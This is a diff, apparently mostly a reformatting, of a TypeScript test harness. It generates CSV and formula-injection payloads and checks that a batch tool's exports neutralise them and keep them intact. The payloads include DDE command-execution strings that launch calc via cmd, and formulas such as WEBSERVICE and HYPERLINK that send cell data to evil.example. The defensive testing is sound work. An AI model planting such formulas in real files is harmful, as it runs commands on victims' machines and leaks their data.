@@ -20,23 +20,63 @@ import { groundConnection, openGround, type Ground } from '../batch-ground.ts'
 import { ofDocument } from './document-check.ts'
 import { inProofFolder } from './proof-folder.ts'
 
-const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\r\n@', ' =', '  +', '\u00a0-', '\u3000=', '\uff1d', '\uff0b', '\uff0d', '\uff20', '=-', '-+', '@@', '\t', '\r', '\ufeff=', '\u200b=', '"=', '\'=']
+const signs = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  '\r\n@',
+  ' =',
+  '  +',
+  '\u00a0-',
+  '\u3000=',
+  '\uff1d',
+  '\uff0b',
+  '\uff0d',
+  '\uff20',
+  '=-',
+  '-+',
+  '@@',
+  '\t',
+  '\r',
+  '\ufeff=',
+  '\u200b=',
+  '"=',
+  "'="
+]
 const tails = [
-  '1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example","x")', 'SUM(A1:A9)', '"quoted", and more', 'IMPORTXML(CONCAT("http://x/",A1),"//a")',
-  'a\r\n=b', 'DDE("cmd";"/C calc";"x")', '2+3;=4', 'WEBSERVICE("http://evil.example/"&A1)', '\u202e)1(MUS', 'É Ω 漢 🙂'
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("http://evil.example","x")',
+  'SUM(A1:A9)',
+  '"quoted", and more',
+  'IMPORTXML(CONCAT("http://x/",A1),"//a")',
+  'a\r\n=b',
+  'DDE("cmd";"/C calc";"x")',
+  '2+3;=4',
+  'WEBSERVICE("http://evil.example/"&A1)',
+  '\u202e)1(MUS',
+  'É Ω 漢 🙂'
 ]
 
 /** Prefixes after which a spreadsheet that splits there would begin another cell. */
 const cuts = ['a;', 'a\t', 'a,', 'a\n', 'a";', '"a,b";']
 
 /** 450 payloads: 300 that begin like a formula, and 150 with one after a separator. */
-export const payloads: readonly string[] = [...signs.flatMap((sign) => tails.map((tail) => sign + tail)), ...cuts.flatMap((cut) => signs.map((sign) => `${cut}${sign}1+1${cut.at(-1)}b`))]
+export const payloads: readonly string[] = [
+  ...signs.flatMap((sign) => tails.map((tail) => sign + tail)),
+  ...cuts.flatMap((cut) => signs.map((sign) => `${cut}${sign}1+1${cut.at(-1)}b`))
+]
 
 // Independent of the writers' own rule. Source: OWASP, "CSV Injection"; some spreadsheets trim white space before a
 // sign.
 const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']
 
-const isFormula = (cell: string): boolean => starts.some((sign) => cell.replaceAll('\0', ' ').trimStart().startsWith(sign))
+const isFormula = (cell: string): boolean =>
+  starts.some((sign) => cell.replaceAll('\0', ' ').trimStart().startsWith(sign))
 /** Whether a spreadsheet would interpret a cell as a formula, or as the beginning of another cell. */
 export const wouldRun = (cell: string): boolean => /^[\t\r\n]/.test(cell) || isFormula(cell)
 
@@ -49,7 +89,10 @@ type Separator = (typeof separators)[keyof typeof separators]
  * quote in the middle of a field: as text, or (if it comes first) as the beginning of a quoted part. Both are checked.
  */
 export function cellsSplitAt(text: string, separator: string): string[] {
-  const cells = text.replaceAll('"', '').split(/[\r\n]/).flatMap((line) => line.split(separator))
+  const cells = text
+    .replaceAll('"', '')
+    .split(/[\r\n]/)
+    .flatMap((line) => line.split(separator))
   for (let at = 0; at < text.length; at += 1) {
     let cell = ''
     if (text[at] === '"') {
@@ -67,7 +110,11 @@ export function cellsSplitAt(text: string, separator: string): string[] {
 
 export const cellsOf = (path: string, delimiter: Separator = ','): string[] =>
   (parse(readFileSync(path), { bom: true, relax_column_count: true, delimiter }) as string[][]).flat()
-export const linesOf = <T = Record<string, unknown>>(path: string): T[] => readFileSync(path, 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as T)
+export const linesOf = <T = Record<string, unknown>>(path: string): T[] =>
+  readFileSync(path, 'utf8')
+    .trimEnd()
+    .split('\n')
+    .map((line) => JSON.parse(line) as T)
 
 export interface Written {
   readonly file: string
@@ -86,14 +133,25 @@ function validated(file: string, path: string, own: Separator = ','): Written {
   const attacked = cells.filter((cell) => known.has(bare(cell))).length
   const text = readFileSync(path, 'utf8').replace(/^\ufeff/, '')
   const elsewhere = Object.entries(separators).flatMap(([name, separator]) =>
-    separator === own ? [] : cellsSplitAt(text, separator).filter(isFormula).map((cell) => `${file}: ${JSON.stringify(cell)} would run where it is split at a ${name}`)
+    separator === own
+      ? []
+      : cellsSplitAt(text, separator)
+          .filter(isFormula)
+          .map((cell) => `${file}: ${JSON.stringify(cell)} would run where it is split at a ${name}`)
   )
-  return { file, cells: cells.length, attacked, faults: [...cells.filter(wouldRun).map((cell) => `${file}: ${JSON.stringify(cell)} would run`), ...elsewhere] }
+  return {
+    file,
+    cells: cells.length,
+    attacked,
+    faults: [...cells.filter(wouldRun).map((cell) => `${file}: ${JSON.stringify(cell)} would run`), ...elsewhere]
+  }
 }
 
 /** A lossless file: its texts are exactly the payloads, in order. */
 function lossless(file: string, found: readonly (string | undefined)[], wanted: readonly string[]): Written {
-  const faults = wanted.flatMap((text, n) => (found[n] === text ? [] : [`${file}: ${JSON.stringify(found[n])} instead of ${JSON.stringify(text)}`]))
+  const faults = wanted.flatMap((text, n) =>
+    found[n] === text ? [] : [`${file}: ${JSON.stringify(found[n])} instead of ${JSON.stringify(text)}`]
+  )
   if (found.length !== wanted.length) faults.push(`${file}: ${found.length} texts instead of ${wanted.length}`)
   return { file, cells: found.length, attacked: wanted.length, faults }
 }
@@ -127,13 +185,29 @@ async function hostileService(): Promise<{ readonly baseUrl: string; close(): vo
 }
 
 /** All files of a batch with payloads in headings and cells, run against a service that answers with payloads. */
-async function batchFiles(ground: Ground, folder: string, [name, delimiter]: readonly [string, Separator]): Promise<Written[]> {
+async function batchFiles(
+  ground: Ground,
+  folder: string,
+  [name, delimiter]: readonly [string, Separator]
+): Promise<Written[]> {
   // Payloads that begin like a formula are the same for each separator; those with one after a separator are not.
   const first = delimiter === ',' ? 0 : payloads.length - 250
   const rows = payloads.map((payload, n) => [n % 7 === 0 ? '' : `ROW-${n}`, payload]).slice(first)
   const text = stringify([['applicant_id', '=cmd|calc!A0'], ...rows], { delimiter })
-  const checked = await must(ground.batches.checkText('rows.csv', text, { operation: 'get-applicant-details', delimiter }))
-  const { id } = await must(ground.batches.create({ checkId: checked.checkId, connectionId: groundConnection.id, name: '=1+1', atOnce: 8, pace: 0, skipDuplicates: false, skipRecent: false }))
+  const checked = await must(
+    ground.batches.checkText('rows.csv', text, { operation: 'get-applicant-details', delimiter })
+  )
+  const { id } = await must(
+    ground.batches.create({
+      checkId: checked.checkId,
+      connectionId: groundConnection.id,
+      name: '=1+1',
+      atOnce: 8,
+      pace: 0,
+      skipDuplicates: false,
+      skipRecent: false
+    })
+  )
   await must(ground.batches.start(id))
   await ground.batches.ended(id)
   const written: Written[] = []
@@ -145,12 +219,23 @@ async function batchFiles(ground: Ground, folder: string, [name, delimiter]: rea
   const path = join(folder, 'lossless.jsonl')
   await must(ground.batches.saveTo(id, 'lossless', path))
   const lines = linesOf<{ readonly cells: readonly string[] }>(path).slice(1)
-  written.push(lossless(`batch, lossless (JSON lines, from ${name})`, lines.map(({ cells }) => cells[1]), payloads.slice(first)))
+  written.push(
+    lossless(
+      `batch, lossless (JSON lines, from ${name})`,
+      lines.map(({ cells }) => cells[1]),
+      payloads.slice(first)
+    )
+  )
   return written
 }
 
 const batchDraft = {
-  sha256: '0'.repeat(64), operation: ofDocument.id, atOnce: 1, pace: 0, createdAt: clock.now(), consoleVersion: '=1+1',
+  sha256: '0'.repeat(64),
+  operation: ofDocument.id,
+  atOnce: 1,
+  pace: 0,
+  createdAt: clock.now(),
+  consoleVersion: '=1+1',
   layout: { columns: ['applicant_id'], delimiter: ',', mapping: {}, applicantColumn: 0 }
 } as const
 
@@ -158,17 +243,33 @@ const batchDraft = {
 async function exported({ store }: Ground, folder: string): Promise<Written[]> {
   let path = ''
   const exports = createExports({
-    clock, consoleVersion: '=1+1', store: async () => ({ ok: true, value: store }), chooseSavePath: async () => path,
-    files: createChosenFiles(mkdtempSync(join(folder, 'own-'))), auditTrail: { note: async () => undefined }, progress: () => undefined
+    clock,
+    consoleVersion: '=1+1',
+    store: async () => ({ ok: true, value: store }),
+    chooseSavePath: async () => path,
+    files: createChosenFiles(mkdtempSync(join(folder, 'own-'))),
+    auditTrail: { note: async () => undefined },
+    progress: () => undefined
   })
   const before = await must(store.counts({}))
   for (const [n, payload] of payloads.entries()) {
-    const connection = { ...connectionNamed(payloads[n % 20] ?? '', '00000000-0000-4000-8000-0000000000f1'), origin: payload }
-    const begun = await must(store.begin({ ...intentOf({ applicant: payload, operation: ofDocument.id, url: payload, connection }), operator: payload }))
+    const connection = {
+      ...connectionNamed(payloads[n % 20] ?? '', '00000000-0000-4000-8000-0000000000f1'),
+      origin: payload
+    }
+    const begun = await must(
+      store.begin({
+        ...intentOf({ applicant: payload, operation: ofDocument.id, url: payload, connection }),
+        operator: payload
+      })
+    )
     await must(store.finish(begun.id, n % 4 === 0 ? lost : answer(payload)))
-    if (n % 4 === 0) await must(store.resolve(begun.id, 'not-processed', payload, { at: clock.now(), operator: 'prover' }))
+    if (n % 4 === 0)
+      await must(store.resolve(begun.id, 'not-processed', payload, { at: clock.now(), operator: 'prover' }))
     await must(store.applicants.tag(payload, [payload.slice(0, 30)], { at: clock.now(), operator: payload }))
-    const batch = await must(store.batches.create({ ...batchDraft, name: payload, fileName: payload, connection, operator: payload }))
+    const batch = await must(
+      store.batches.create({ ...batchDraft, name: payload, fileName: payload, connection, operator: payload })
+    )
     await must(store.batches.add(batch.id, [{ row: 1, state: 'waiting', cells: [payload] }]))
     await must(store.batches.seal(batch.id))
   }
@@ -188,13 +289,36 @@ async function exported({ store }: Ground, folder: string): Promise<Written[]> {
     await must(save('jsonl'))
   }
   const records = linesOf<RecordDetail>(join(folder, 'history.jsonl')).slice(1 + before.total, -1)
-  const texts = records.flatMap(({ input, fullMessage, resolved, operator, connection }) => [...Object.values(input), fullMessage ?? resolved?.note, operator, connection.origin])
-  written.push(lossless('history (JSON lines)', texts, payloads.flatMap((payload) => [payload, payload, payload, payload, payload])))
-  const ids = linesOf<{ readonly id: string }>(join(folder, 'applicants.jsonl')).slice(1, -1).map(({ id }) => id)
-  written.push(lossless('applicants (JSON lines)', ids.filter((id) => payloads.includes(id)).sort(), [...payloads].sort()))
-  const messages = linesOf<{ readonly message: string }>(join(folder, 'catalogue.jsonl')).slice(1, -1).map(({ message }) => message)
+  const texts = records.flatMap(({ input, fullMessage, resolved, operator, connection }) => [
+    ...Object.values(input),
+    fullMessage ?? resolved?.note,
+    operator,
+    connection.origin
+  ])
+  written.push(
+    lossless(
+      'history (JSON lines)',
+      texts,
+      payloads.flatMap((payload) => [payload, payload, payload, payload, payload])
+    )
+  )
+  const ids = linesOf<{ readonly id: string }>(join(folder, 'applicants.jsonl'))
+    .slice(1, -1)
+    .map(({ id }) => id)
+  written.push(
+    lossless('applicants (JSON lines)', ids.filter((id) => payloads.includes(id)).sort(), [...payloads].sort())
+  )
+  const messages = linesOf<{ readonly message: string }>(join(folder, 'catalogue.jsonl'))
+    .slice(1, -1)
+    .map(({ message }) => message)
   const answered = payloads.filter((_, n) => n % 4 !== 0)
-  written.push(lossless('catalogue (JSON lines)', answered.filter((payload) => messages.includes(payload)), answered))
+  written.push(
+    lossless(
+      'catalogue (JSON lines)',
+      answered.filter((payload) => messages.includes(payload)),
+      answered
+    )
+  )
   return written
 }
 
@@ -202,7 +326,11 @@ async function exported({ store }: Ground, folder: string): Promise<Written[]> {
 export function writeEverywhere(): Promise<Written[]> {
   return inProofFolder(async (folder) => {
     const service = await hostileService()
-    const ground = await openGround({ folder: join(folder, 'history'), baseUrl: service.baseUrl, masterKey: '0123456789abcdef'.repeat(4) })
+    const ground = await openGround({
+      folder: join(folder, 'history'),
+      baseUrl: service.baseUrl,
+      masterKey: '0123456789abcdef'.repeat(4)
+    })
     try {
       const written: Written[] = []
       for (const separator of Object.entries(separators)) written.push(...(await batchFiles(ground, folder, separator)))
